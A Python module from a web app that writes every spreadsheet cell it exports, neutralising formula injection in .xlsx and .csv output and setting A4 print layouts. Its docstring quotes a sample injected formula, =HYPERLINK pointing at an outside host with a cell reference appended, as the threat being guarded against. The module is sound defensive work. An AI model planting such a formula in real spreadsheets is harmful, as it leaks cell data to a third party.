"""The one place where a cell of a spreadsheet the app hands out (.xlsx or .csv) is written. Pure: no Flask, no
database, so the documents here and the app's exports, templates and error workbooks all write through it.

What someone typed stays text. A member renamed =HYPERLINK("http://a.cn/?"&C2,"郭志红") would otherwise be a live
formula in the office's ranking.xlsx: openpyxl turns any text starting with = into a formula (and #N/A into an
error value), and Excel runs a CSV field starting with =, +, -, @, a tab or a carriage return. So:

- in an .xlsx, text is always stored as text (an inline string, data type "s"), never as a formula;
- in a .csv, text that a spreadsheet would run gets a leading ' (OWASP's advice; the import takes it off again);
- numbers and dates stay numbers and dates, negative ones too (-3.5 is a number, not a formula).

`tests/test_spreadsheet_formulas.py` opens every spreadsheet the app makes, and fails on any module of app/ or
reports/ that writes a cell some other way.

Every sheet someone may print gets `print_setup` here too: A4, upright or lying by its width, one page wide,
its header repeated on each page and 第 n 页 共 m 页 at the foot (`tests/test_workbook_printing.py` prints each
workbook with LibreOffice and looks).
"""
from __future__ import annotations

import csv
import math
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import TYPE_CHECKING, Any, TextIO
from xml.sax.saxutils import escape  # escapes text we write; parses nothing  # nosec B406

if TYPE_CHECKING:  # openpyxl is imported where a workbook is written: the PDFs do without it
    from openpyxl.cell.cell import Cell

#: What a spreadsheet runs as a formula when a CSV field (or a typed cell) starts with it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A plain number as text (-3.5, +2, 1E+3): a spreadsheet reads it as a number, not a formula.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
TEXT = "s"  # openpyxl's data type of a text cell
#: The control characters an .xlsx cannot hold: openpyxl's ILLEGAL_CHARACTERS_RE.
_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def clean(text: str) -> str:
    """Text without the control characters an .xlsx cannot hold (openpyxl refuses them)."""
    return _ILLEGAL.sub("", text)


def _held(value: Any) -> Any:
    """What an .xlsx cell holds for `value`: text cleaned; NaN and infinities (no Excel number) as text."""
    if isinstance(value, str):
        return clean(value)
    if isinstance(value, (float, Decimal)) and not isinstance(value, bool) and not math.isfinite(value):
        return str(value)
    return value


def _as_text(target: Cell) -> Cell:
    if isinstance(target.value, str):
        target.data_type = TEXT  # openpyxl made "=…" a formula and "#N/A" an error: it is what someone typed
    return target


# --- .xlsx through openpyxl ---------------------------------------------------------------------------------------

def cell(sheet: Any, value: Any, *, font: Any = None, fill: Any = None, alignment: Any = None,
         number_format: str | None = None) -> Cell:
    """A styled cell of `sheet` (write-only or not) holding `value`, for `append`."""
    from openpyxl.cell.cell import Cell

    made = _as_text(Cell(sheet, row=1, column=1, value=_held(value)))  # `append` gives it its place
    if font is not None:
        made.font = font
    if fill is not None:
        made.fill = fill
    if alignment is not None:
        made.alignment = alignment
    if number_format is not None:
        made.number_format = number_format
    return made


def append(sheet: Any, values: Iterable[Any]) -> list[Cell]:
    """Add a row under the last one of `sheet` (write-only or not) of values or ready `cell`s (None: a blank);
    returns the row as written."""
    from openpyxl.cell.cell import Cell

    row = [v if v is None or isinstance(v, Cell) else cell(sheet, v) for v in values]
    sheet.append(row)
    return row


def put(sheet: Any, row: int, column: int, value: Any) -> Cell:
    """Write `value` into the cell at `row`, `column` of a worksheet open for editing (not write-only)."""
    target = sheet.cell(row=row, column=column)
    target.value = _held(value)
    return _as_text(target)


# --- .xlsx sheet XML written directly (the import format's fast path) -------------------------------------------

def text_xml(ref: str, style: str, text: str) -> str:
    """A <c> element holding `text` as an inline string ("" for no text): text, whatever it starts with."""
    text = clean(text)
    if not text:
        return ""
    return f'<c r="{ref}"{style} t="inlineStr"><is><t xml:space="preserve">{escape(text)}</t></is></c>'


def number_xml(ref: str, style: str, digits: str) -> str:
    """A <c> element holding a number written as `digits` (-3.5, 45292 for a date's Excel serial …).

    :raises ValueError: `digits` is not a plain number.
    """
    if not _NUMBER.fullmatch(digits):
        raise ValueError(f"not a number: {digits!r}")
    return f'<c r="{ref}"{style}><v>{digits}</v></c>'


# --- how a sheet prints ----------------------------------------------------------------------------------------------

#: Column width (Excel's unit: characters of the default font) an upright A4 page holds between the margins; a
#: wider sheet prints lying (landscape), still scaled to one page wide.
PORTRAIT_WIDTH = 95
DEFAULT_WIDTH = 8.43  # Excel's width of a column nobody sized
FOOTER = "第 &P 页 共 &N 页"  # &P: this page, &N: the pages in all (Excel's and LibreOffice's codes)
_A4 = 9  # the paperSize code of A4


def print_setup(sheet: Any, widths: Sequence[float] | None = None, *, title_rows: int = 1) -> None:
    """Make `sheet` (write-only or not) print whole: on A4, landscape when its columns are wider than
    `PORTRAIT_WIDTH`, scaled to one page wide and as many pages tall as it takes, rows 1…`title_rows` repeated at
    the top of each page (0: none), even margins and 第 n 页 共 m 页 in the footer.

    `widths`: the columns' widths in characters; by default the sheet's own (a write-only sheet has none until
    its rows are written: pass them). Call it before a write-only sheet's first row, as the fit-to-page flag is
    written ahead of the rows.
    """
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.page import PageMargins
    from openpyxl.worksheet.properties import PageSetupProperties

    if widths is None:
        sized = sheet.column_dimensions
        widths = [(d.width if (d := sized.get(get_column_letter(i))) is not None and d.customWidth else DEFAULT_WIDTH)
                  for i in range(1, sheet.max_column + 1)]
    setup = sheet.page_setup
    setup.paperSize = _A4
    setup.orientation = "landscape" if sum(widths) > PORTRAIT_WIDTH else "portrait"
    setup.fitToWidth, setup.fitToHeight = 1, 0  # 0: as many pages tall as the rows need
    sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    sheet.page_margins = PageMargins(left=0.5, right=0.5, top=0.6, bottom=0.7, header=0.3, footer=0.3)
    sheet.print_options.horizontalCentered = True
    sheet.oddFooter.center.text = FOOTER
    if title_rows:
        sheet.print_title_rows = f"1:{title_rows}"


# --- .csv ---------------------------------------------------------------------------------------------------------

def csv_field(value: Any) -> str:
    """A CSV field for `value`: text a spreadsheet would run as a formula with a leading '; numbers as digits."""
    if value is None:
        return ""
    text = str(value)
    if isinstance(value, str) and text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_csv(stream: TextIO, rows: Iterable[Iterable[Any]], *, lineterminator: str = "\r\n") -> None:
    """Write `rows` to `stream` as CSV, every field through `csv_field`."""
    writer = csv.writer(stream, lineterminator=lineterminator)
    for row in rows:
        writer.writerow([csv_field(v) for v in row])
